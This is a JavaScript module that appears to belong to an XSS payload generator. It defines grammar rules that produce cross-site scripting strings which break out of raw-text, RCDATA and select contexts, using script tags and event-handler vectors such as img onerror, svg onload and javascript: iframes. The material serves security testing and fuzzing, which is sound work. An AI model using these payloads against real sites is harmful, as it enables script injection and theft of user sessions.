import { RAWTEXT, RCDATA, SELECT } from '../context.js';
import { xssGenerator } from '../xss-generator.js';

/** Out of elements that hold no markup. */
export const rawtextBreakout = xssGenerator({
  name: 'rawtext-breakout',
  contexts: [...RCDATA, ...RCDATA, ...RAWTEXT, SELECT],
  rules: {
    start: [
      '{open}<{vector}>',
      '{open}<{vector}>{word}',
      '{open}{word}<{vector}/>',
      '{open}<script>{script}</script>',
      '{open}<{element} on{event}="{script}">{word}</{element}>',
      '{open}<!-- {word} --><{vector}>',
    ],
    vector: [
      'svg onload={bare}',
      'img src=x onerror="{script}"',
      'video src onerror={bare}',
      'iframe onload={bare}',
      'input onfocus={bare} autofocus',
      'body onpageshow={bare}',
      'iframe src="javascript:{bare}"',
      'details open ontoggle={bare}',
    ],
    event: ['click', 'mouseover', 'pointerenter', 'focusin'],
  },
});
